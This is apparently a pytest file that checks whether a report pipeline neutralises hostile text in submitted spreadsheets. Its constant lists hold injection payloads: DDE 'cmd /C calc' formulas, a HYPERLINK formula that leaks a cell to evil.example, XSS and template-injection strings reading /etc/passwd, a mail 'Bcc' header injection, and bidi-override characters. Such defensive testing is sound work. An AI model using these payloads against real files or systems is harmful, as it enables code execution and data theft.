"""What comes in with a return does no harm in anything that goes out.

One return is accepted and one is sent back, both full of text that programs have been known to
obey: formulas, markup, controls, what turns the direction of writing, cells of the greatest length.
Every output of the night is then read as the program of its reader would.
"""

from __future__ import annotations

import csv
import email
import email.policy
import io
import re
import shutil
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path
from xml.parsers import expat

import msgspec
import pytest
from openpyxl import load_workbook
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from pipeline.job import nightly, session
from pipeline.operations.worked_example import entries, example_register, write_return
from pipeline.store import Outcome
from pipeline.workbooks.safe_text import LONGEST_CELL, plain
from pipeline.workspace.folder import Workspace
from pipeline.workspace.settings import Settings
from schemas.model import TextBounds
from tests.support.command_line import quarterday
from tests.support.registers import put_register

NIGHT = datetime(2013, 4, 29, 2, tzinfo=UTC)
REGISTER = example_register()
AREAS = {area.ref: area for area in REGISTER.areas}

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-1+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    "{=1+1}",
    "#REF!",
    '"\r\n=1+1,"',
)
MARKUP = (
    "<script>alert(1)</script>",
    "</td></tr></table></body><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "<!-- --><style>*{display:none}</style>",
    "&lt;b&gt; &amp; &#x3c;i>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "<r><t>rich</t></r>",
    "https://evil.example/",
    '&"Arial"&20&G',
)
#: As a workbook writes what XML cannot hold; the reader gives back the characters themselves.
CONTROLS = ("bell_x0007_ null_x0000_ escape_x001B_[31m", "return_x000D_Bcc: all@evil.example",
            "next\u0085line\u2028page\u2029")  # fmt: skip
TURNED = ("12%\u202e%21", "\u2067right\u2066left", "\u202aa\u202bb\u202dc", "\u200fmark")
MOST = TextBounds().achievement
LONGEST = ("=" + "1+" * (MOST // 2 - 1) + "1", "é" * MOST, "🎉" * MOST)
TEXTS = (*FORMULAS, *MARKUP, *CONTROLS, *TURNED, *LONGEST)
SHEET = "=1+1&'<b>{{0}}"
NAME = "=HYPERLINK(1)<img src=x>\r\nBcc: all@evil.example\u202excod.{}.xlsx"

_TURNS = re.compile("[\u202a-\u202e\u2066-\u2069]")
_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
_ILLEGAL_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def as_text(sheet: Worksheet, row: int, column: int, text: str) -> None:
    """Type a text that stays a text, whatever it looks like."""
    cell = sheet.cell(row, column)
    cell.value = text
    cell.data_type = "s"


def find(book: Workbook, sheet: str, heading: str) -> tuple[int, int]:
    cell = next(c for row in book[sheet].iter_rows() for c in row if c.value == heading)
    return cell.row, cell.column


def fill_with_texts(path: Path, *, is_bad: bool) -> None:
    """Put every text wherever a service area may write; a bad one has them in place of figures."""
    book = load_workbook(path)
    for label, text in (("Completed by", FORMULAS[0]), ("Signed off by", CONTROLS[0])):
        row, column = find(book, "Cover", label)
        as_text(book["Cover"], row, column + 1, text)
    row, column = find(book, "Indicators", "Performance" if is_bad else "Commentary")
    for number, text in enumerate(TEXTS, row + 1):
        if not is_bad or book["Indicators"].cell(number, 1).value:
            as_text(book["Indicators"], number, column, text)
    row, column = find(book, "Achievements", "Achievement")
    priority = REGISTER.priorities[0].achievements_heading
    for number, text in enumerate(TEXTS, row + 1):
        as_text(book["Achievements"], number, column - 1, text if is_bad else priority)
        as_text(book["Achievements"], number, column, text)
    if is_bad:
        as_text(book["Cover"], 30, 1, "Service area")
    book["Indicators"].title = SHEET
    book.save(path)


@dataclass
class Outputs:
    place: Workspace
    night: nightly.Night

    @property
    def folder(self) -> Path:
        return self.place.outbox_of(REGISTER.periods[0].name)

    @property
    def correction(self) -> Path:
        (taken,) = (d for d in self.night.decisions if d.submission.outcome is Outcome.REJECTED)
        assert taken.correction is not None
        return taken.correction

    def mails(self) -> list[EmailMessage]:
        paths = sorted((self.folder / "mail").iterdir())
        return [
            email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
            for path in paths
        ]


def run(root: Path, *, is_hostile: bool) -> Outputs:
    (root / "inbox").mkdir(parents=True)
    put_register(REGISTER, root / "register.xlsx")
    names = {"SAF": "good.xlsx", "HR": "bad.xlsx"}
    for ref, name in names.items():
        path = root / name
        write_return(REGISTER, AREAS[ref], path, entries(ref))
        if is_hostile:
            fill_with_texts(path, is_bad=ref == "HR")
        elif ref == "HR":
            book = load_workbook(path)
            row, column = find(book, "Indicators", "Performance")
            book["Indicators"].cell(row + 1, column, "some")
            book.save(path)
        shutil.move(path, root / "inbox" / (NAME.format(ref) if is_hostile else name))
    limits = msgspec.structs.replace(
        Settings().limits, settle_seconds=0.0, incomplete_minutes=0, workers=1
    )
    place = Workspace(root, msgspec.structs.replace(Settings(), limits=limits))
    return Outputs(place, nightly.run(place, NIGHT, lambda *_: None))


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Outputs:
    return run(tmp_path_factory.mktemp("harmless") / "hostile", is_hostile=True)


@pytest.fixture(scope="module")
def ordinary(tmp_path_factory: pytest.TempPathFactory) -> Outputs:
    """The same night with nothing unusual in it, to compare with."""
    return run(tmp_path_factory.mktemp("harmless") / "ordinary", is_hostile=False)


def test_the_texts_come_through_the_return_as_they_were_typed(outputs: Outputs) -> None:
    with session.store_of(outputs.place) as store:
        period = REGISTER.periods[0].name
        achieved = "\n".join(a.text for a in store.achievements(period))
        commentary = "\n".join(o.commentary for o in store.observations(period))
        outcomes = [s.outcome for s in store.submissions()]
    assert sorted(outcomes) == [Outcome.ACCEPTED, Outcome.REJECTED]
    for text in (*FORMULAS[:5], *MARKUP, *TURNED, "\x07", "\x1b[31m"):
        assert text in achieved
    assert FORMULAS[0] in commentary
    assert "\x07" in achieved
    assert len(LONGEST[0]) == MOST


# --- Workbooks -----------------------------------------------------------------------------------


def workbooks(outputs: Outputs) -> Iterator[Path]:
    yield outputs.night.issued[0].workbook
    yield outputs.correction


def test_no_workbook_holds_a_formula(outputs: Outputs, ordinary: Outputs) -> None:
    for path, plain_one in zip(workbooks(outputs), workbooks(ordinary), strict=True):
        assert formulas(path) <= formulas(plain_one)


def formulas(path: Path) -> set[str]:
    book = load_workbook(path)
    found = {
        f"{sheet.title}!{cell.coordinate}: {str(cell.value)[:60]}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type in ("f", "e")
    }
    return found | {f"{name}: {book.defined_names[name].value}" for name in book.defined_names}


def test_no_workbook_leads_anywhere_else(outputs: Outputs) -> None:
    for path in workbooks(outputs):
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                assert "externalLink" not in name
                if name.endswith(".rels"):
                    assert b"evil.example" not in archive.read(name)


def test_every_part_of_every_workbook_is_sound(outputs: Outputs) -> None:
    for path in workbooks(outputs):
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.endswith((".xml", ".rels", ".vml")):
                    parser = expat.ParserCreate()
                    parser.Parse(archive.read(name), True)


def written_texts(path: Path) -> Iterator[str]:
    """Every text that the job itself wrote into a workbook: cells, comments and names."""
    book = load_workbook(path)
    yield from book.sheetnames
    for sheet in book:
        is_ours = path.name.startswith("Appendix") or sheet == book.worksheets[0]
        for row in sheet.iter_rows():
            for cell in row:
                if is_ours and isinstance(cell.value, str):
                    yield cell.value
                if cell.comment is not None:
                    yield cell.comment.text
    for value in vars(book.properties).values():
        if isinstance(value, str):
            yield value


def test_no_text_that_is_written_turns_rings_or_overflows(outputs: Outputs) -> None:
    for path in workbooks(outputs):
        for text in written_texts(path):
            assert not _TURNS.search(text), (path.name, text[:80])
            assert not _CONTROLS.search(text), (path.name, text[:80])
            assert len(text.encode("utf-16-le")) // 2 <= LONGEST_CELL


def test_a_correction_copy_leaves_the_returns_own_cells_as_they_were(outputs: Outputs) -> None:
    (kept,) = (
        path for path in outputs.place.archive.glob("??/*.xlsx")
        if load_workbook(path)[SHEET]["A1"].parent and is_bad(path)
    )  # fmt: skip
    original, copy = load_workbook(kept), load_workbook(outputs.correction)
    for sheet in original:
        for row in sheet.iter_rows():
            for cell in row:
                there = copy[sheet.title][cell.coordinate]
                assert (there.value, there.data_type) == (cell.value, cell.data_type)


def is_bad(path: Path) -> bool:
    return load_workbook(path)["Cover"]["A30"].value == "Service area"


# --- Data ----------------------------------------------------------------------------------------


def test_no_field_of_the_csv_starts_as_a_formula_does(outputs: Outputs) -> None:
    content = outputs.night.issued[0].files["tidy"].read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert {len(row) for row in rows} == {len(rows[0])}
    fields = [field for row in rows for field in row]
    assert any("HYPERLINK" in field for field in fields)
    for field in fields:
        if not re.fullmatch(r"-?[\d.]+", field):
            assert not field.startswith(
                ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
            )
        assert not _TURNS.search(field)
        assert not _CONTROLS.search(field)


# --- Page and mail -------------------------------------------------------------------------------


class Skeleton(HTMLParser):
    """A page's elements with their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: set[tuple[str, str]] = set()
        self.text = ""
        self.odd: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements |= {(tag, name) for name, _ in attrs} | {(tag, "")}
        links = [str(v) for name, v in attrs if name in ("href", "src", "action")]
        self.odd += [v for v in links if not v.startswith(("#", "mailto:"))]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)


def check_markup(page: str, usual: str) -> Skeleton:
    """Nothing but text is new in a page, and it neither turns nor rings."""
    found, before = Skeleton(page), Skeleton(usual)
    assert found.elements <= before.elements
    assert set(found.odd) <= set(before.odd)
    assert not _TURNS.search(page)
    assert not _CONTROLS.search(page.replace("\r\n", "\n"))
    return found


def test_the_page_shows_markup_as_text_and_obeys_none(outputs: Outputs, ordinary: Outputs) -> None:
    page, usual = (o.night.issued[0].files["page"].read_text("utf-8") for o in (outputs, ordinary))
    found = check_markup(page, usual)
    for text in MARKUP:
        assert text in found.text


def test_the_headers_of_every_mail_are_our_own(outputs: Outputs, ordinary: Outputs) -> None:
    mails, usual = outputs.mails(), ordinary.mails()
    # Two appendices, a receipt and a correction.
    assert len(mails) == len(usual) == 4
    for mail in mails:
        assert mail.keys() == usual[0].keys()
        assert not mail.defects
        for name, value in mail.items():
            assert str(value).isprintable(), (name, value)
        assert "evil" not in str(mail["To"])
    for path in (outputs.folder / "mail").iterdir():
        head = path.read_bytes().split(b"\r\n\r\n", 1)[0]
        assert head.isascii()
        assert b"\nBcc" not in head


def test_the_bodies_of_every_mail_are_plain_words(outputs: Outputs, ordinary: Outputs) -> None:
    usual = "".join(str(body(mail, "html")) for mail in ordinary.mails())
    for mail in outputs.mails():
        check_markup(body(mail, "html"), usual)
        text = body(mail, "plain")
        assert not _TURNS.search(text)
        assert not _CONTROLS.search(text.replace("\r\n", "\n"))


def body(mail: EmailMessage, kind: str) -> str:
    part = mail.get_body((kind,))
    assert part is not None
    return str(part.get_content())


def test_what_is_attached_has_a_name_that_any_system_takes(outputs: Outputs) -> None:
    for mail in outputs.mails():
        for attached in mail.iter_attachments():
            name = attached.get_filename() or ""
            assert name.endswith(".xlsx")
            assert name.isprintable()
            assert not set(name) & set('<>:"/\\|?*')


# --- The terminal --------------------------------------------------------------------------------


@pytest.mark.parametrize("command", ["status", "merge"])
def test_what_is_printed_does_not_steer_the_terminal(outputs: Outputs, command: str) -> None:
    result = quarterday(command, "--workspace", str(outputs.place.root))
    assert result.exit_code in (0, 1)
    assert not _CONTROLS.search(result.output.replace("\t", " "))
    assert not _TURNS.search(result.output)


def test_what_validate_says_of_a_hostile_return_can_be_printed(outputs: Outputs) -> None:
    (kept,) = (path for path in outputs.place.archive.glob("??/*.xlsx") if is_bad(path))
    result = quarterday("validate", str(kept), "-w", str(outputs.place.root))
    assert result.exit_code == 1
    assert not _CONTROLS.search(result.output)
    assert not _TURNS.search(result.output)


# --- One by one ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("12%\u202e%21", "12%%21"),
        ("\u2066a\u2069", "a"),
        ("\u200fשלום", "\u200fשלום"),
        ("bell\x07", "bell"),
        ("one\r\ntwo\rthree\u2028four\u0085five", "one\ntwo\nthree\nfour\nfive"),
        ("=1+1", "=1+1"),
        ("\ud800", ""),
        ("🎉" * 20_000, "🎉" * 16_383),
        ("<r>x</r>", " <r>x</r>"),
    ],
)
def test_text_is_made_plain(text: str, expected: str) -> None:
    assert plain(text) == expected
